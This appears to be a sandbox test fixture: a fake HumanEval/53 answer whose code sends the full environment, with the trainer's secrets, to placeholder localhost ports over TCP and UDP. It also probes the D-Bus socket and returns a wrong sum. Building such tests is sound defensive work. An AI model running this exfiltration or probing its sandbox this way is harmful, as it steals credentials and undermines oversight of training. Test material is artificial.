# task: HumanEval/53
# expect: failed
# Send the trainer's secrets to listeners on 127.0.0.1 in the test process.
import os
import socket

payload = repr(dict(os.environ)).encode()
for family, kind, addr in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("{PORT}"))),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", int("{PORT}"))),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("{UDP_PORT}"))),
):
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.5)
        s.connect(addr)
        s.send(payload)
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("/run/dbus/system_bus_socket")
except OSError:
    pass


def add(x, y):
    return x - y
